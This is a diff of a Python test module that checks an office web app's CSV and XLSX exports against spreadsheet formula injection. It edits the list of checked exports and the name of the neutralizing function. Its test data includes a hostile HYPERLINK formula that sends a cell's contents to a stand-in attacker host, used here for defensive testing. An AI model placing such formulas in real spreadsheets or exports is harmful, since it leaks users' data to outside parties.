@@ -2,7 +2,7 @@
 formulas, templates never mark input safe, and every PDF goes through the restricted fetcher.
 
 The export check walks every URL as the office's administrator, so a new export that forgets
-`intlaffairs.spreadsheets.neutralized` is found here rather than in a user's Excel.
+`intlaffairs.spreadsheets.neutralize` is found here rather than in a user's Excel.
 """
 
 import csv
@@ -27,10 +27,10 @@ SPREADSHEET_TYPES = ("text/csv", "application/vnd.openxmlformats", "application/
 EXPORTS = {
     name: ("csv", "xlsx")
     for name in (
-        "agreements:agreement_export",
         "agreements:agreement_list_export",
         "agreements:institution_list_export",
         "students:application_list_export",
+        "students:program_list_export",
         "exchanges:mobility_list_export",
         "exchanges:course_list_export",
         "exchanges:course_applicants_export",
@@ -47,10 +47,7 @@ EXPORTS = {
 }
 # The exports whose rows show an agreement's title (the hostile cells below);
 # tests/intlaffairs/test_list_exports.py checks the others' cells through the shared writer.
-AGREEMENT_EXPORTS = (
-    "agreements:agreement_export",
-    "agreements:agreement_list_export",
-)
+AGREEMENT_EXPORTS = ("agreements:agreement_list_export",)
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 
